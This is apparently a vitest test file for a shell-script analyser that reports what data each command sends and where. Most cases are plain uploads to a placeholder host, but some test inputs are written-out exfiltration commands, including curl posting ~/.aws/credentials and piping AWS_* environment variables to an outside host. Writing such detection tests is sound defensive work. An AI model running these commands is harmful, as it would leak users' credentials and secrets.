import { expect, test } from "vitest";
import { tellShell } from "./read.ts";

/** What is sent, as `destination < path of what is in it`. */
function sent(script: string): readonly string[] {
  return tellShell(script).facts.flatMap((fact) => {
    if (fact.kind !== "operation" || fact.operation.op !== "send") return [];
    const { destination, payload } = fact.operation;
    const paths = payload.flatMap(({ origins }) =>
      origins.map((origin) => (origin.kind === "file" ? origin.path : origin.kind)),
    );
    return [`${destination.shape} < ${paths.join()}`];
  });
}

test.each([
  ["cat a | aws s3 cp - s3://b/x", ["s3://b/x < a"]],
  ["aws s3 cp a s3://b/x --endpoint-url https://h.example", ["https://h.example < a"]],
  ["aws s3api put-object --bucket b --key k --body a", ["s3://b < a"]],
  ["az storage blob upload --account-name b -c in -f a", ["https://b.blob.core.windows.net/ < a"]],
  ["rclone copy a :webdav,url=https://h.example:in", ["https://h.example < a"]],
  ["cat a | rclone rcat r:x", ["r:x < a"]],
  ["cat a | mosquitto_pub -h h.example -t in -s", ["h.example < a"]],
  ["cat a | redis-cli -h h.example -x set in", ["h.example < a"]],
  ["tftp h.example -c put a", ["h.example < a"]],
  ['smbclient //h.example/in -N -c "put a b"', ["//h.example/in < a"]],
  ['sftp u@h.example <<EOF\nput "a b" in/\nEOF', ["u@h.example < a b"]],
  ["socat -u FILE:a TCP:h.example:1", ["h.example:1 < a"]],
  ["croc send --code x-y a", ["croc < a"]],
  ["curl -T - https://h.example", ["https://h.example < input"]],
  ["aws s3 ls s3://b", []],
  ["redis-cli -h h.example get k", []],
  ["croc receive x-y", []],
])("%s", (script, expected) => {
  expect(sent(script)).toEqual(expected);
});

test.each([
  ["eval 'cat a' | curl -d @- https://h.example", ["https://h.example < a"]],
  ["bash -c 'cat a' | curl -d @- https://h.example", ["https://h.example < a"]],
  ["exec 6> >(curl -d @- https://h.example)\ncat a >&6", ["https://h.example < input", "https://h.example < a"]],
  ["find . -name a -exec cat {} + | curl -d @- https://h.example", ["https://h.example < ./a"]],
  ["cd ~/.aws; curl -d @credentials https://h.example", ["https://h.example < ~/.aws/credentials"]],
  ['for v in ${!AWS_*}; do echo "${!v}"; done | curl -d @- https://h.example', ["https://h.example < environment"]],
])("what is printed by: %s", (script, expected) => {
  expect(sent(script)).toEqual(expected);
});
